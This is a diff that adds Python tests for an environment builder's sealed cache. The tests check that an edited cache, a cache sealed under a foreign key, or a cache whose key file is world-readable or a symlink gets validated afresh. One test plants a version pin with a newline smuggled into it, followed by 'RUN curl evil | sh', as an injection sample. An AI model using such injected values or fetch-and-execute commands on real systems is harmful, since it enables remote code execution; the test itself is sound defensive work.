@@ -1,0 +1,56 @@
+"""The matrix cache is sealed: only text this envbuild validated and sealed with the user's key
+is read without validating it again; an edited, planted or foreign cache is validated afresh,
+and what it says never reaches a render."""
+
+from __future__ import annotations
+
+import json
+
+from envbuilder import paths
+from envbuilder.model import matrix as M
+
+
+def cache_path():
+    return M._cache_path(M.matrix_files((), None))
+
+
+def test_a_sealed_cache_is_read_and_an_edited_one_is_not(monkeypatch, tmp_path):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    fresh = M.load(())
+    path = cache_path()
+    text = path.read_text()
+    assert text.startswith(paths.SEAL)
+    assert paths.read_sealed(path) is not None
+    # an edit under the old seal: a newline where a pin belongs (it once became a RUN line)
+    head, body = text.split("\n", 1)
+    doc = json.loads(body)
+    prof = next(iter(doc["sections"]["profiles"].values()))
+    prof["torch"] = "2.6.0\nRUN curl evil | sh"
+    path.write_text(head + "\n" + json.dumps(doc))
+    assert paths.read_sealed(path) is None
+    again = M.load(())  # refused: validated afresh from the matrix files, then sealed anew
+    assert again.profiles == fresh.profiles
+    assert paths.read_sealed(path) is not None
+
+
+def test_a_seal_under_another_key_is_not_ours(monkeypatch, tmp_path):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    M.load(())
+    path = cache_path()
+    key = path.parent / ".key"
+    key.write_bytes(b"\x01" * 32)  # another key: the cache sealed before is now foreign
+    assert paths.read_sealed(path) is None
+    assert M.load(()).profiles  # (validated afresh)
+
+
+def test_a_key_others_may_read_or_a_link_is_no_key(monkeypatch, tmp_path):
+    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
+    M.load(())
+    path = cache_path()
+    key = path.parent / ".key"
+    key.chmod(0o644)
+    assert paths.read_sealed(path) is None
+    key.unlink()
+    key.symlink_to(tmp_path / "elsewhere")
+    (tmp_path / "elsewhere").write_bytes(b"\x02" * 32)
+    assert paths.read_sealed(path) is None
